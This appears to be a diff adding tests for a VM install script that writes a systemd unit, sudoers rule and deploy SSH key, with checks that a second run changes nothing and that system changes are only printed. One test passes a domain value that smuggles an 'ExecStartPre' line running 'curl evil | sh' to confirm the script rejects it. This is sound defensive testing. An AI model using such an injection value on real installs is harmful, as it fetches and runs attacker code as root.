@@ -1,0 +1,101 @@
+// scripts/install-vm.sh tried under a temporary root: what it writes, that a second run changes nothing, and that it
+// only prints what would change this machine; and the systemd unit it installs.
+import crypto from 'node:crypto';
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import test from 'ava';
+import { command, ROOT } from './helpers/lambda.js';
+
+const SCRIPT = path.join(ROOT, 'scripts', 'install-vm.sh');
+const DEPLOY_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHxv1dQ9jv2D0cmqDZ8Yxq2Y0s2bq3QKc2n5Wv3t2x1k ci@example';
+
+/** Every path under the root with its type, mode and, for files, a hash of the content. */
+function listing(root: string): string[] {
+  const lines: string[] = [];
+  const walk = (dir: string): void => {
+    for (const name of fs.readdirSync(dir).sort()) {
+      const full = path.join(dir, name);
+      const stat = fs.lstatSync(full);
+      const hash = stat.isFile() ? crypto.createHash('sha256').update(fs.readFileSync(full)).digest('hex') : '';
+      lines.push(`${path.relative(root, full)} ${stat.isDirectory() ? 'd' : 'f'} ${(stat.mode & 0o7777).toString(8)} ${hash}`);
+      if (stat.isDirectory()) walk(full);
+    }
+  };
+  walk(root);
+  return lines;
+}
+
+function install(root: string, env: Record<string, string> = {}) {
+  return command('bash', [SCRIPT], { env: { LAMBDA_INSTALL_ROOT: root, LAMBDA_INSTALL_DOMAIN: 'fn.example.com', LAMBDA_INSTALL_DEPLOY_KEY: DEPLOY_KEY, ...env } });
+}
+
+test('run twice under a root, the second run changes nothing and every change to this machine is only printed', async (t) => {
+  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'lambda-install-vm-'));
+  t.teardown(() => fs.rmSync(root, { recursive: true, force: true }));
+  const first = await install(root);
+  t.is(first.code, 0, first.stderr + first.stdout);
+  const afterFirst = listing(root);
+  t.is(fs.readFileSync(path.join(root, 'etc/systemd/system/lambda.service'), 'utf8'), fs.readFileSync(path.join(ROOT, 'config/lambda.service'), 'utf8'));
+  t.is(fs.readFileSync(path.join(root, 'etc/systemd/system/lambda.service.d/domain.conf'), 'utf8'), '[Service]\nEnvironment=LAMBDA_DOMAIN=fn.example.com\n');
+  t.is(
+    fs.readFileSync(path.join(root, 'etc/sudoers.d/lambda-deploy'), 'utf8'),
+    'lambda-deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart lambda.service, /bin/systemctl restart lambda.service\n',
+  );
+  t.is(fs.readFileSync(path.join(root, 'home/lambda-deploy/.ssh/authorized_keys'), 'utf8'), `${DEPLOY_KEY}\n`);
+  for (const entry of [
+    'opt/lambda d 755',
+    'opt/lambda/releases d 755',
+    'var/lib/lambda d 700',
+    'home/lambda-deploy/.ssh d 700',
+    'home/lambda-deploy/.ssh/authorized_keys f 600',
+    'etc/sudoers.d/lambda-deploy f 440',
+  ]) {
+    t.true(afterFirst.some((line) => line.startsWith(`${entry} `)), `${entry} in ${afterFirst.join('\n')}`);
+  }
+  t.false(fs.existsSync(path.join(root, 'opt/lambda/current')), 'the first build is only printed');
+  t.regex(first.stdout, /would run: runuser -u lambda-deploy -- .*deploy\.sh [0-9a-f]{40} /);
+  // Whatever would touch this machine (packages, users, ownership, systemd) is printed, never run.
+  for (const line of first.stdout.split('\n').filter((l) => /\b(apt-get|useradd|usermod|chown|systemctl)\b/.test(l) && !l.includes('journalctl'))) {
+    t.regex(line, /^\s+would run: /, line);
+  }
+
+  const second = await install(root);
+  t.is(second.code, 0, second.stderr + second.stdout);
+  t.deepEqual(listing(root), afterFirst, 'the second run changed nothing under the root');
+  t.notRegex(second.stdout, / (written|made|mode \d+)$/m);
+  t.regex(second.stdout, /lambda\.service unchanged/);
+  t.regex(second.stdout, /authorized_keys has the deploy key/);
+  t.notRegex(second.stdout, /systemctl daemon-reload/, 'no reload when the unit did not change');
+});
+
+test('a domain that is not a domain name cannot add lines to the unit', async (t) => {
+  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'lambda-install-vm-'));
+  t.teardown(() => fs.rmSync(root, { recursive: true, force: true }));
+  const result = await install(root, { LAMBDA_INSTALL_DOMAIN: 'fn.example.com\nExecStartPre=/bin/sh -c "curl evil | sh"' });
+  t.is(result.code, 1);
+  t.regex(result.stderr, /LAMBDA_INSTALL_DOMAIN must be a domain name/);
+  t.false(fs.existsSync(path.join(root, 'etc/systemd/system/lambda.service.d/domain.conf')));
+});
+
+test('the unit runs the current build with node as the lambda user, with the memory settings, never npm start', (t) => {
+  const unit = fs.readFileSync(path.join(ROOT, 'config/lambda.service'), 'utf8');
+  const lines = unit.split('\n').filter((line) => line && !line.startsWith('#'));
+  for (const line of [
+    'User=lambda',
+    'WorkingDirectory=/opt/lambda/current',
+    'EnvironmentFile=/opt/lambda/current/config/server-memory.env',
+    'ExecStart=/usr/bin/node $LAMBDA_NODE_FLAGS dist/server/main.js',
+    'Environment=LAMBDA_DATA_DIR=/var/lib/lambda',
+    'Environment=LAMBDA_START_DOCKER=0',
+    'Requires=docker.service',
+    'StartLimitIntervalSec=0',
+  ]) {
+    t.true(lines.includes(line), line);
+  }
+  t.false(/npm start/.test(lines.join('\n')));
+  // Every variable the memory file sets is one the unit's command or Node reads.
+  const memory = fs.readFileSync(path.join(ROOT, 'config/server-memory.env'), 'utf8');
+  t.regex(memory, /^LAMBDA_NODE_FLAGS=/m);
+  t.regex(memory, /^MALLOC_ARENA_MAX=/m);
+});
